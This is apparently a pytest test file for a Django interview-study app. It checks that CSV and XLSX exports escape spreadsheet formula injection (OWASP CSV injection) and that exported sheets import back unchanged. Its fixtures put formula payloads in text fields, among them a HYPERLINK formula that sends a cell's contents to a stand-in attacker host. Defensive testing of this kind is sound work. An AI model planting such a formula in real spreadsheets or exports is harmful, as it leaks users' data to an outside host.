"""Formula injection (OWASP "CSV Injection"): every CSV and XLSX export writes a cell that starts
with = + - @, a tab or a carriage return as text, through studies.spreadsheet. Each export gets a
formula payload in every text column it has."""

import csv
import datetime
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from coding.models import Theme
from studies.models import Membership, Role
from studies.spreadsheet import FORMULA_START, csv_cell, csv_uncell
from tests.conftest import client_for
from tests.reports_study import code, interview, person

SLUG = "pasto"
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


@pytest.fixture
def hostile(django_user_model, adam, study):
    """One participant, transcript, theme, coder and excerpt with a payload in every text field."""
    coder = django_user_model.objects.create_user(username="@coder", password="pw")
    Membership.objects.create(study=study, user=coder, role=Role.RESEARCHER)
    parent = Theme.objects.create(study=study, name="+Parent", description="-2+3",
                                  inclusion_criteria="@SUM(1)", exclusion_criteria="\t=1")
    child = Theme.objects.create(study=study, name=HYPERLINK, parent=parent, description="\r=1")
    someone = person(study, "=P1", organisation="+Org", scope="quote_named",
                     full_name="@Real Name", contact="-1+1")
    transcript = interview(someone, "-Quote 1+1 said here.", title="@Title", date=datetime.date(2009, 4, 8))
    code(transcript, "-Quote 1+1 said here.", [child, parent], coder)
    return {"theme": child, "parent": parent}


def assert_no_live_formula(rows):
    cells = [cell for row in rows for cell in row]
    assert cells
    for cell in cells:
        assert not cell.startswith(FORMULA_START), cell


def csv_of(response):
    assert response.status_code == 200, response.content[:300]
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


@pytest.mark.parametrize("route", ["interviews:participant-export",
                                   "interviews:participant-export-identifying"])
def test_the_participant_csv_actions_write_formulas_as_text(adam, hostile, route):
    rows = csv_of(client_for(adam).get(reverse(route, args=[SLUG])))
    assert_no_live_formula(rows)
    header, row = rows[0], rows[1]
    assert row[header.index("code")] == "'=P1"
    assert row[header.index("Organisation")] == "'+Org"  # an attribute's column, named as the attribute
    if "identifying" in route:
        assert row[header.index("full_name")] == "'@Real Name"
        assert row[header.index("contact")] == "'-1+1"


def test_the_excerpt_csv_writes_formulas_as_text(adam, hostile):
    rows = csv_of(client_for(adam).get(reverse("reports:excerpt-export-csv", args=[SLUG])))
    assert_no_live_formula(rows)
    row = dict(zip(rows[0], rows[1], strict=True))
    assert (row["Participant"], row["Organisation"], row["Transcript"], row["Coder"], row["Quote"]) == (
        "'=P1", "'+Org", "'@Title", "'@coder", "'-Quote 1+1 said here.")
    assert row["Themes"].startswith("'")


def test_the_theme_report_csv_writes_formulas_as_text(adam, hostile):
    url = reverse("reports:theme-report-csv", args=[SLUG, hostile["theme"].pk])
    rows = csv_of(client_for(adam).get(url))
    assert_no_live_formula(rows)
    assert rows[1][0] == "'=P1" and rows[1][9] == "'-Quote 1+1 said here."


def test_the_theme_report_xlsx_writes_no_formula_on_either_sheet(adam, hostile):
    """The Counts sheet used to write the theme's name as <f>HYPERLINK(…)</f>."""
    url = reverse("reports:theme-report-xlsx", args=[SLUG, hostile["theme"].pk])
    response = client_for(adam).get(url, {"language": "en"})  # the study's is Spanish (issue 15)
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.content))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
    counts = {row[0].value: row[1].value for row in book["Counts"].iter_rows() if row[0].value}
    assert counts["Theme"] == HYPERLINK
    quotes = list(book["Quotes"].iter_rows(values_only=True))
    assert quotes[1][0] == "=P1" and quotes[1][5] == "@Title" and quotes[1][9] == "-Quote 1+1 said here."


def test_the_codebook_csv_writes_formulas_as_text(adam, hostile):
    rows = csv_of(client_for(adam).get(reverse("coding:codebook-export-csv", args=[SLUG])))
    assert_no_live_formula(rows)
    names = {csv_uncell(r[2]) for r in rows[1:]}
    assert names == {"+Parent", HYPERLINK}


@pytest.mark.parametrize("value", ["=1", "+1", "-1", "@a", "\t1", "\r1", "'=1", "''+1", "'plain", "plain",
                                   ""])
def test_the_helper_escapes_and_unescapes_exactly(value):
    written = csv_cell(value)
    assert not written.startswith(FORMULA_START)
    assert csv_uncell(written) == value


# ----- the classification sheets (interviews.sheet_io), through the same helper -----

@pytest.fixture
def sheet_attributes(study, hostile):
    """A payload in every text column of both sheets, attribute names included, and a negative
    number beside it."""
    from interviews.models import Participant, Transcript
    from interviews.services import attribute_create, attribute_value_set

    made = {
        "text": attribute_create(study=study, applies_to="participant", name="=Note", type="text"),
        "choice": attribute_create(study=study, applies_to="participant", name="+Wave", type="choice",
                                   choices=["@First", "Second"]),
        "number": attribute_create(study=study, applies_to="participant", name="-Score", type="number"),
        "secret": attribute_create(study=study, applies_to="participant", name="@Home", type="text",
                                   identifying=True),
        "mode": attribute_create(study=study, applies_to="transcript", name="=Mode", type="text"),
        "delta": attribute_create(study=study, applies_to="transcript", name="Delta", type="number"),
    }
    participant, transcript = Participant.objects.get(study=study), Transcript.objects.get(study=study)
    for key, raw in [("text", HYPERLINK), ("choice", "@First"), ("number", "-3"), ("secret", "-1+1")]:
        attribute_value_set(attribute=made[key], obj=participant, raw=raw)
    attribute_value_set(attribute=made["mode"], obj=transcript, raw="-1+2")
    attribute_value_set(attribute=made["delta"], obj=transcript, raw="-2.5")
    return made


SHEETS = ["participant-sheet-export", "transcript-sheet-export"]


@pytest.mark.parametrize("sheet", SHEETS)
def test_the_sheet_csv_writes_formulas_as_text_and_numbers_as_numbers(adam, sheet_attributes, sheet):
    rows = csv_of(client_for(adam).get(reverse(f"interviews:{sheet}-csv", args=[SLUG])))
    cells = dict(zip(rows[0], rows[1], strict=True))
    numbers = {"'-Score": "-3"} if sheet.startswith("participant") else {"Delta": "-2.5"}
    assert_no_live_formula([rows[0] + [c for name, c in cells.items() if name not in numbers]])
    for name, value in numbers.items():  # a number is no formula: written so the import reads it
        assert cells[name] == value
    if sheet.startswith("participant"):
        assert (cells["Code"], cells["Organisation"], cells["'=Note"], cells["'+Wave"], cells["'@Home"]) == (
            "'=P1", "'+Org", "'" + HYPERLINK, "'@First", "'-1+1")
    else:
        assert (cells["Title"], cells["Participant"], cells["'=Mode"]) == ("'@Title", "'=P1", "'-1+2")


@pytest.mark.parametrize("sheet", SHEETS)
def test_the_sheet_xlsx_writes_no_formula_and_numbers_as_number_cells(adam, sheet_attributes, sheet):
    response = client_for(adam).get(reverse(f"interviews:{sheet}-xlsx", args=[SLUG]))
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.content))
    header, row = list(book.active.iter_rows())[:2]
    for cell in (*header, *row):
        assert cell.data_type != "f", (cell.coordinate, cell.value)
    cells = {h.value: c.value for h, c in zip(header, row, strict=True)}
    if sheet.startswith("participant"):
        assert cells["-Score"] == -3 and cells["=Note"] == HYPERLINK and cells["+Wave"] == "@First"
        assert cells["Code"] == "=P1" and cells["@Home"] == "-1+1"
    else:
        assert cells["Delta"] == -2.5 and cells["=Mode"] == "-1+2" and cells["Title"] == "@Title"


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize("sheet", ["participant", "transcript"])
def test_a_sheet_with_negative_numbers_and_payloads_imports_back_unchanged(adam, sheet_attributes, sheet,
                                                                           fmt):
    """Exported, then given back to our own sheet import: every cell reads back as it was (the
    apostrophe comes off, -3 is the number -3), so the preview shows no change."""
    client = client_for(adam)
    exported = client.get(reverse(f"interviews:{sheet}-sheet-export-{fmt}", args=[SLUG])).content
    from django.core.files.uploadedfile import SimpleUploadedFile

    response = client.post(reverse(f"interviews:{sheet}-sheet-import", args=[SLUG]),
                           {"file": SimpleUploadedFile(f"back.{fmt}", exported)})
    body = response.content.decode()
    assert response.status_code == 200, body
    assert "0 changed cells" in body, body[body.find('id="changes"'):][:2000]
    assert "Unknown columns" not in body
